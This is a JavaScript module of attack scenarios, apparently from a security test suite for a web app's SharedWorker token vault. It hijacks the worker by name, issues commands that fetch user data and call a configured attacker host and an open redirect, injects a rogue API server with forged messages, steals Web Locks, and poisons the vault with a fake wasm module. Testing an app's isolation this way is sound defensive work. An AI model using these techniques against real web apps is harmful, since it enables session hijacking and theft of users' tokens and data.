// The shared worker that vaults of all tabs live in.
import { Hooks, soon, wait } from '../kit.mjs';
import { FILES, fetchTo, forged, openOptions, WASM, withOwnServer } from '../wire.mjs';

/** The name of the app's shared worker, taken off a session of the attacker's own that is configured alike. */
async function sharedName(options, undo) {
  const { createSession } = await import(`${FILES}index.js`);
  const hooks = new Hooks(() => {});
  let name;
  hooks.replace(window, 'SharedWorker', {
    writable: true,
    value: class {
      constructor(_url, given) {
        name = given.name;
        throw new Error('that is all');
      }
    },
  });
  const own = createSession({ ...options, vault: { placement: 'shared', fallback: false } });
  undo(() => own.close());
  await soon(() => name, 500);
  hooks.restore();
  return name;
}

/** A port of the attacker's own to the shared worker called `name`; `wasm` is what it says the vault is. */
async function connect(name, { record, undo, wasm = WASM }) {
  const url = new URL(`${FILES}shared.js`, location.href);
  const worker = new SharedWorker(url, { type: 'module', name, extendedLifetime: true });
  undo(() => worker.port.close());
  const { port1, port2 } = new MessageChannel();
  const heard = [];
  const hear = ({ data }) => {
    record(data);
    heard.push(data);
  };
  port1.onmessage = hear;
  worker.port.onmessage = hear;
  worker.onerror = record;
  worker.port.postMessage({ wasm, life: 'never held' }, [port2]);
  await soon(() => heard.length, 3000);
  let last = 0;
  return {
    heard,
    post: (message) => port1.postMessage(message),
    async command(command) {
      const id = ++last;
      port1.postMessage([{ command: { id, command } }]);
      return soon(() => heard.find((data) => data[0]?.reply?.id === id), 3000);
    },
  };
}

/** A port of the attacker's own to the app's shared worker, opened as the app opens its own, but for `changed`. */
async function openAnother(context, changed = (open) => open) {
  const open = await openOptions(context);
  const own = await connect(await sharedName(context.options, context.undo), context);
  await own.command({ open: changed(open) });
  return own;
}

export const sharedWorker = [
  {
    id: 'shared-connect',
    title: 'connects to the app’s SharedWorker by its name, opens the same session, and asks it for everything',
    when: 'after',
    async run(context) {
      const { config, victim } = context;
      const own = await openAnother(context);
      for (const command of [
        { start: {} },
        { checkSession: { params: [] } },
        { userinfo: { sources: false } },
        fetchTo(`${config.api}orders`),
        fetchTo(config.attacker),
        fetchTo(`${config.api}redirect?to=${encodeURIComponent(config.attacker)}`),
      ]) {
        own.command(command);
      }
      await victim();
      await wait(200);
    },
    disturbs: true,
  },
  {
    id: 'shared-forged',
    title: 'connects to the app’s SharedWorker and opens a session there with its own server among the APIs',
    when: 'after',
    async run(context) {
      const { config, victim } = context;
      const own = await openAnother(context, (open) => withOwnServer(open, config));
      await own.command(fetchTo(config.attacker));
      for (const message of forged()) own.post(message);
      await victim();
    },
  },
  {
    id: 'shared-life',
    title: 'steals the locks by which pages and vault know of each other, and takes the vault’s questions over',
    when: 'after',
    async run(context) {
      const { record, victim } = context;
      await openAnother(context);
      const { held, pending } = await navigator.locks.query();
      record([held, pending]);
      for (const { name } of held) {
        navigator.locks.request(name, { steal: true }, () => wait(300)).catch(() => {});
      }
      await Promise.race([victim('renew'), wait(1500)]);
    },
    disturbs: true,
  },
  {
    id: 'shared-poisoned',
    title: 'opens the SharedWorker of the app’s name first, and says that the vault is a wasm of its own',
    when: 'both',
    async run({ record, undo, options, victim }) {
      const name = await sharedName(options, undo);
      // An empty module.
      const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      const wasm = URL.createObjectURL(new Blob([bytes], { type: 'application/wasm' }));
      const own = await connect(name, { record, undo, wasm });
      record(own.heard);
      await victim();
    },
  },
];
